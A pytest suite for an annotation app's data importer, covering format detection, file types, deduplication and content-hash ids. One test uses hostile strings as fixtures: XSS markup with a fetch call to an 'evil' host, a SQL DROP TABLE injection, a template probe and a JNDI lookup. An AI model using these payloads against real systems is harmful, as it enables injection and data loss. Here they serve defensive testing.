"""Each import shape and file type, format detection and ``--format``, dedup and verbatim storage."""

from __future__ import annotations

import gzip
import json
import random
from pathlib import Path

import pandas as pd
import pytest

from annotate_app import ids
from annotate_app.ingest import ImportOptions, IngestError, PairConfig, import_file
from annotate_app.store import Store

PAIR_ROWS = [
    {"prompt": "Name a prime.", "response_a": "7", "response_b": "8", "model_a": "m1"},
    {"prompt": "Capital of France?", "response_a": "Paris", "response_b": "Lyon", "model_b": "m2"},
    {"prompt": "2+2?", "response_a": "four", "response_b": "4", "model_a": "x", "model_b": "y"},
]
MODELS = ("alpha", "beta", "gamma", "delta")


def write_jsonl(path: Path, rows: list[dict]) -> Path:
    text = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows)
    if path.name.endswith(".gz"):
        path.write_bytes(gzip.compress(text.encode("utf-8")))
    else:
        path.write_text(text, encoding="utf-8")
    return path


def write_table(path: Path, rows: list[dict]) -> Path:
    frame = pd.DataFrame(rows)
    if path.suffix == ".csv":
        frame.to_csv(path, index=False)
    elif path.suffix == ".parquet" or not path.suffix:
        frame.to_parquet(path, index=False)
    else:
        write_jsonl(path, rows)
    return path


def fresh(tmp_path: Path, name: str) -> Store:
    return Store(tmp_path / f"{name}.duckdb")


def val(v: object) -> object:
    """NULL reads back as NaN in pandas frames; compare it as None."""
    return None if v is None or (isinstance(v, float) and pd.isna(v)) else v


def pair_set(store: Store) -> set[tuple[str, str, str, str | None, str | None]]:
    frame = store.pairs_frame()
    return {
        (r.prompt, r.text_a, r.text_b, val(r.model_a), val(r.model_b))
        for r in frame.itertuples(index=False)
    }


def winners(store: Store) -> dict[str, tuple[str, str]]:
    """prompt -> (winning text, losing text) from the current import labels."""
    labels = store.current_labels(source="import").set_index("pair_id")["choice"]
    out = {}
    for r in store.pairs_frame().itertuples(index=False):
        choice = labels[r.pair_id]
        out[r.prompt] = (r.text_a, r.text_b) if choice > 0 else (r.text_b, r.text_a)
    return out


def multi_rows(n_prompts: int = 3) -> list[dict]:
    return [
        {"prompt": f"Question {p}?", "response": f"answer {p} by {m}", "model": m}
        for p in range(n_prompts)
        for m in MODELS
    ]


def test_pairs_format(store: Store, tmp_path: Path) -> None:
    report = import_file(store, write_jsonl(tmp_path / "p.jsonl", PAIR_ROWS))
    assert (report.format, report.file_type, report.rows) == ("pairs", "jsonl", 3)
    assert report.added == {"prompts": 3, "responses": 6, "pairs": 3, "labels": 0}
    frame = store.pairs_frame()
    # A/B is the sorted response ids, never the input order.
    assert (frame["response_a"] < frame["response_b"]).all()
    got = {
        (r.prompt, frozenset({(r.text_a, val(r.model_a)), (r.text_b, val(r.model_b))}))
        for r in frame.itertuples()
    }
    want = {
        (
            r["prompt"],
            frozenset({(r["response_a"], r.get("model_a")), (r["response_b"], r.get("model_b"))}),
        )
        for r in PAIR_ROWS
    }
    assert got == want
    assert store.stats()["labels"] == {"human": 0, "ai": 0, "import": 0, "adjudicated": 0}


def test_chosen_rejected_gives_gold_import_labels(store: Store, tmp_path: Path) -> None:
    rows = [
        {"prompt": "Say hi.", "chosen": "Hello!", "rejected": "No.", "model_chosen": "good"},
        {"prompt": "Count to 3.", "chosen": "1 2 3", "rejected": "1 2", "model_rejected": "bad"},
        {"prompt": "Spell cat.", "chosen": "c-a-t", "rejected": "k-a-t"},
    ]
    report = import_file(store, write_jsonl(tmp_path / "cr.jsonl", rows))
    assert report.format == "chosen-rejected"
    assert report.added["pairs"] == 3 and report.added["labels"] == 3
    assert winners(store) == {r["prompt"]: (r["chosen"], r["rejected"]) for r in rows}
    labels = store.current_labels(source="import")
    assert set(labels["annotator"]) == {"import:cr.jsonl"}
    assert set(labels["choice"].abs()) == {1}
    frame = store.pairs_frame()
    models = {(r.text_a, val(r.model_a)) for r in frame.itertuples()} | {
        (r.text_b, val(r.model_b)) for r in frame.itertuples()
    }
    assert ("Hello!", "good") in models and ("1 2", "bad") in models


def test_trl_conversational_chosen_rejected(store: Store, tmp_path: Path) -> None:
    prompt = [
        {"role": "system", "content": "You are terse."},
        {"role": "user", "content": "Pick a colour."},
        {"role": "assistant", "content": "Blue."},
        {"role": "user", "content": "Another one?"},
    ]
    row = {
        "prompt": prompt,
        "chosen": [{"role": "assistant", "content": "Green."}],
        "rejected": [{"role": "assistant", "content": "I refuse."}],
    }
    import_file(store, write_jsonl(tmp_path / "trl.jsonl", [row]))
    pair = store.get_pair(store.pairs_frame()["pair_id"].iloc[0])
    assert pair["turns"] == prompt
    assert pair["n_turns"] == 4
    assert winners(store)[pair["prompt"]] == ("Green.", "I refuse.")


def test_hh_dialogue_split(store: Store, tmp_path: Path) -> None:
    shared = "\n\nHuman: Hi there\n\nAssistant: Hello.\n\nHuman: Tell me a joke"
    # The chosen reply itself quotes the Assistant marker: the split must use the shared prefix.
    row = {
        "chosen": shared + "\n\nAssistant: Why did the chicken cross?\n\nAssistant: To get across.",
        "rejected": shared + "\n\nAssistant: No.",
    }
    report = import_file(store, write_jsonl(tmp_path / "hh.jsonl", [row]))
    assert report.format == "hh"
    pair = store.get_pair(store.pairs_frame()["pair_id"].iloc[0])
    assert pair["turns"] == [
        {"role": "user", "content": "Hi there"},
        {"role": "assistant", "content": "Hello."},
        {"role": "user", "content": "Tell me a joke"},
    ]
    assert winners(store)[pair["prompt"]] == (
        "Why did the chicken cross?\n\nAssistant: To get across.",
        "No.",
    )


def test_multi_response_all_pairs(store: Store, tmp_path: Path) -> None:
    report = import_file(store, write_jsonl(tmp_path / "m.jsonl", multi_rows()))
    assert report.format == "multi-response"
    assert report.added == {"prompts": 3, "responses": 12, "pairs": 18, "labels": 0}
    frame = store.pairs_frame()
    assert (frame.groupby("prompt").size() == 6).all()
    # Pairs only ever join responses of the same prompt, across different models.
    assert all(r.text_a.split(" by ")[0] == r.text_b.split(" by ")[0] for r in frame.itertuples())
    assert (frame["model_a"] != frame["model_b"]).all()


def test_multi_response_pairs_across_files(store: Store, tmp_path: Path) -> None:
    """One file per model, the common shape of model outputs: pairs still span the files."""
    rows = multi_rows()
    for model in MODELS:
        one_model = [r for r in rows if r["model"] == model]
        import_file(store, write_jsonl(tmp_path / f"{model}.jsonl", one_model))
    with fresh(tmp_path, "together") as together:
        import_file(together, write_jsonl(tmp_path / "all.jsonl", rows))
        assert pair_set(store) == pair_set(together)
    assert store.stats()["pairs"] == 18
    assert import_file(store, tmp_path / "alpha.jsonl").added["pairs"] == 0


def test_multi_response_sampling_is_deterministic(tmp_path: Path) -> None:
    rows = multi_rows(n_prompts=6)
    path = write_jsonl(tmp_path / "m.jsonl", rows)
    shuffled = rows[:]
    random.Random(1).shuffle(shuffled)
    shuffled_path = write_jsonl(tmp_path / "shuffled.jsonl", shuffled)

    def sample(name: str, file: Path, k: int, seed: int) -> set:
        with fresh(tmp_path, name) as s:
            import_file(s, file, ImportOptions(pairs=PairConfig(pairs_per_prompt=k, seed=seed)))
            frame = s.pairs_frame()
            assert (frame.groupby("prompt").size() == k).all()
            return pair_set(s)

    first = sample("a", path, 2, seed=7)
    assert len(first) == 12
    assert sample("b", path, 2, seed=7) == first
    assert sample("c", shuffled_path, 2, seed=7) == first  # input order does not matter
    assert sample("d", path, 2, seed=8) != first
    # k at or above the number of combinations gives every pair.
    assert len(sample("e", path, 6, seed=7)) == 36


def test_alpaca_style_columns(store: Store, tmp_path: Path) -> None:
    rows = [
        {"instruction": "Say hi", "output": f"hi from {g}", "generator": g, "dataset": "demo"}
        for g in ("g1", "g2", "g3")
    ]
    report = import_file(store, write_jsonl(tmp_path / "alpaca.jsonl.gz", rows))
    assert (report.format, report.file_type) == ("multi-response", "jsonl")
    assert report.added["pairs"] == 3
    frame = store.pairs_frame()
    assert set(frame["model_a"]) | set(frame["model_b"]) == {"g1", "g2", "g3"}
    assert set(frame["category"]) == {"demo"}


@pytest.mark.parametrize(
    "name", ["d.jsonl", "d.jsonl.gz", "d.csv", "d.parquet", "d.json", "d.ndjson"]
)
def test_file_types_give_identical_projects(tmp_path: Path, name: str) -> None:
    reference = fresh(tmp_path, "ref")
    import_file(reference, write_jsonl(tmp_path / "ref.jsonl", PAIR_ROWS))
    want = pair_set(reference)
    reference.close()
    with fresh(tmp_path, "other") as s:
        report = import_file(s, write_table(tmp_path / name, PAIR_ROWS))
        assert report.file_type == {"csv": "csv", "parquet": "parquet"}.get(
            name.split(".")[1], "jsonl"
        )
        assert pair_set(s) == want


def test_content_sniffing_without_extension(tmp_path: Path) -> None:
    jsonl = write_jsonl(tmp_path / "data.jsonl", PAIR_ROWS).rename(tmp_path / "noext_json")
    parquet = write_table(tmp_path / "noext_parquet", PAIR_ROWS)
    with fresh(tmp_path, "x") as s:
        assert import_file(s, jsonl).file_type == "jsonl"
        assert import_file(s, parquet).file_type == "parquet"
        assert s.stats()["pairs"] == 3
    (tmp_path / "notes.txt").write_text("hello\n")
    with (
        fresh(tmp_path, "y") as s,
        pytest.raises(IngestError, match="notes.txt: unknown file type"),
    ):
        import_file(s, tmp_path / "notes.txt")


def test_format_override(tmp_path: Path) -> None:
    """HH dialogues that also carry a ``prompt`` column look like chosen/rejected; --format hh wins."""
    shared = "\n\nHuman: Is water wet?"
    row = {
        "prompt": "Is water wet?",
        "chosen": shared + "\n\nAssistant: It makes things wet.",
        "rejected": shared + "\n\nAssistant: Ask someone else.",
    }
    path = write_jsonl(tmp_path / "hh_with_prompt.jsonl", [row])
    with fresh(tmp_path, "auto") as s:
        assert import_file(s, path).format == "chosen-rejected"
        assert s.pairs_frame()["text_a"].str.contains("Human:").all()
    with fresh(tmp_path, "forced") as s:
        assert import_file(s, path, ImportOptions(format="hh")).format == "hh"
        pair = s.pairs_frame().iloc[0]
        assert pair["prompt"] == "Is water wet?"
        assert {pair["text_a"], pair["text_b"]} == {"It makes things wet.", "Ask someone else."}


def test_undetectable_columns_need_format(tmp_path: Path) -> None:
    path = write_jsonl(tmp_path / "odd.jsonl", [{"question": "q", "answer": "a"}])
    with fresh(tmp_path, "x") as s:
        with pytest.raises(IngestError, match=r"odd.jsonl:1: cannot tell the format.*--format"):
            import_file(s, path)
        with pytest.raises(IngestError, match="odd.jsonl:1: field 'prompt': missing"):
            import_file(s, path, ImportOptions(format="multi-response"))
        with pytest.raises(IngestError, match="unknown format 'dpo'"):
            import_file(s, path, ImportOptions(format="dpo"))
        assert s.stats()["prompts"] == 0


@pytest.mark.parametrize("name", ["again.jsonl", "again.csv"])
def test_reimport_adds_nothing(store: Store, tmp_path: Path, name: str) -> None:
    rows = [
        {"prompt": f"p{i}", "chosen": f"good {i}", "rejected": f"bad {i}"} for i in range(20)
    ] + [{"prompt": "p0", "chosen": "good 0", "rejected": "bad 0"}]  # a duplicate row as well
    path = write_table(tmp_path / name, rows)
    first = import_file(store, path)
    assert first.added == {"prompts": 20, "responses": 40, "pairs": 20, "labels": 20}
    before = store.stats()
    second = import_file(store, path)
    assert second.added == {"prompts": 0, "responses": 0, "pairs": 0, "labels": 0}
    assert store.stats() == before


def test_same_content_in_another_file_type_dedups_content(store: Store, tmp_path: Path) -> None:
    import_file(store, write_jsonl(tmp_path / "a.jsonl", PAIR_ROWS))
    report = import_file(store, write_table(tmp_path / "a.parquet", PAIR_ROWS))
    assert report.added == {"prompts": 0, "responses": 0, "pairs": 0, "labels": 0}


def test_huge_texts_stored_whole(store: Store, tmp_path: Path) -> None:
    big = "".join(random.Random(0).choices("abcdefgh \n\t\"',é✓", k=1_100_000))
    assert len(big.encode("utf-8")) >= 1_000_000
    rows = [{"prompt": "Summarise this: " + big, "response_a": big + " end", "response_b": "short"}]
    import_file(store, write_jsonl(tmp_path / "big.jsonl", rows))
    import_file(store, write_table(tmp_path / "big.csv", [{**rows[0], "response_b": "other"}]))
    frame = store.pairs_frame()
    assert len(frame) == 2
    for r in frame.itertuples():
        assert r.prompt == rows[0]["prompt"]
        assert big + " end" in (r.text_a, r.text_b)


def test_html_and_script_text_stored_verbatim(store: Store, tmp_path: Path) -> None:
    nasty = [
        "<script>alert('x')</script>",
        '<img src=x onerror="fetch(`//evil`)">',
        "'; DROP TABLE pairs; --",
        "{{7*7}} ${jndi:ldap://x} \u202e\u0000nul \U0001f600",
    ]
    rows = [
        {"prompt": nasty[i], "response_a": nasty[(i + 1) % 4], "response_b": nasty[(i + 2) % 4]}
        for i in range(4)
    ]
    import_file(store, write_jsonl(tmp_path / "html.jsonl", rows))
    frame = store.pairs_frame()
    assert set(frame["prompt"]) == set(nasty)
    assert set(frame["text_a"]) | set(frame["text_b"]) == set(nasty)
    assert store.stats()["pairs"] == 4


def test_ids_are_content_hashes(store: Store, tmp_path: Path) -> None:
    import_file(store, write_jsonl(tmp_path / "p.jsonl", PAIR_ROWS[:1]))
    pair = store.pairs_frame().iloc[0]
    pid = ids.prompt_id([{"role": "user", "content": "Name a prime."}])
    assert pair["prompt_id"] == pid
    assert pair["pair_id"] == ids.pair_id(ids.response_id(pid, "8"), ids.response_id(pid, "7"))


def test_extra_columns_kept_as_metadata(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "extra.jsonl"
    path.write_bytes(
        b'{"prompt": "q", "response_a": "a", "response_b": "b", "topic": "math", "n": 3, '
        b'"odd": "lone \\udc00 surrogate"}\n'
    )
    import_file(store, path)
    with store.cursor() as cur:
        (meta,) = cur.execute("SELECT metadata FROM prompts").fetchall()[0]
    assert json.loads(meta) == {"topic": "math", "n": 3, "odd": "lone ? surrogate"}
